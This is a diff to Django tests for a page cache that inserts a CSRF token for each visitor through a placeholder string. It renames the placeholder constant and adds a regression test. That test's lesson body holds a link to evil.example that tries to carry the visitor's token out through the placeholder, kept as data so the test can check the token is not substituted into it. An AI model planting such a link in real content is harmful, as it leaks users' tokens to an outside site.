@@ -7,7 +7,7 @@ import pytest
 from django.conf import settings
 from django.test import Client
 
-from core.first_visits import CSRF_HOLE
+from core.first_visits import CSRF_HOLE_PREFIX
 
 pytestmark = pytest.mark.django_db
 
@@ -33,7 +33,7 @@ def test_a_cached_lesson_gives_each_visitor_a_token_that_works(
         client, html, token = first_visit(lesson.get_absolute_url())
     _other_client, _other_html, other_token = first_visit(lesson.get_absolute_url())
     assert "Shared words." in html
-    assert CSRF_HOLE not in html
+    assert CSRF_HOLE_PREFIX not in html
     assert token != other_token
     assert client.cookies["csrftoken"].value
 
@@ -51,7 +51,7 @@ def test_the_home_page_is_cached_for_first_visits_with_a_working_token(make_less
     lesson = make_lesson()
     first_visit("/")
     client, html, token = first_visit("/")
-    assert CSRF_HOLE not in html
+    assert CSRF_HOLE_PREFIX not in html
     assert "Where to start" in html
     assert not Client().get("/").templates  # served from the cache, not rendered
     response = client.post(
@@ -66,7 +66,7 @@ def test_the_hole_never_leaks_to_a_visitor_with_a_session(client, learner, make_
     client.force_login(learner)
     html = client.get(lesson.get_absolute_url()).content.decode()
     assert "Signed-in words." in html
-    assert CSRF_HOLE not in html
+    assert CSRF_HOLE_PREFIX not in html
     assert f"Signed in as {learner.username}" in html
 
 
@@ -98,7 +98,7 @@ def test_query_strings_and_htmx_requests_are_not_served_from_the_cache(make_less
     # The test client lists the templates a response rendered: none when served from the cache.
     for response in (cold.get(url + "?utm=x"), cold.get(url, headers={"HX-Request": "true"})):
         assert response.status_code == 200
-        assert CSRF_HOLE not in response.content.decode()
+        assert CSRF_HOLE_PREFIX not in response.content.decode()
         assert response.templates, "the view rendered the page"
 
 
@@ -107,7 +107,7 @@ def test_an_unknown_lesson_is_a_404_not_a_cached_page(client, make_lesson):
     for _ in range(2):
         response = client.get("/learn/no-such-module/no-such-lesson/")
         assert response.status_code == 404
-        assert CSRF_HOLE not in response.content.decode()
+        assert CSRF_HOLE_PREFIX not in response.content.decode()
 
 
 def test_a_new_content_version_replaces_the_cached_page(make_lesson):
@@ -145,3 +145,15 @@ def test_a_served_page_is_the_page_the_view_renders(make_lesson):
         return re.sub(r"[A-Za-z0-9]{64}", "TOKEN", html)
 
     assert without_tokens(served.content.decode()) == without_tokens(rendered.content.decode())
+
+
+def test_author_content_cannot_carry_the_placeholder_to_another_site(make_lesson):
+    """Review F11: a lesson link holding the placeholder got each visitor's own token."""
+    lesson = make_lesson(
+        body="[Collect](https://evil.example/collect?t=__margin_academy_csrf_token_hole__)"
+    )
+    first_visit(lesson.get_absolute_url())  # renders and caches the page
+    for _ in range(2):
+        _client, html, token = first_visit(lesson.get_absolute_url())
+        assert token not in html.split("evil.example", 1)[1].split('"', 1)[0]
+        assert "collect?t=__margin_academy_csrf_token_hole__" in html
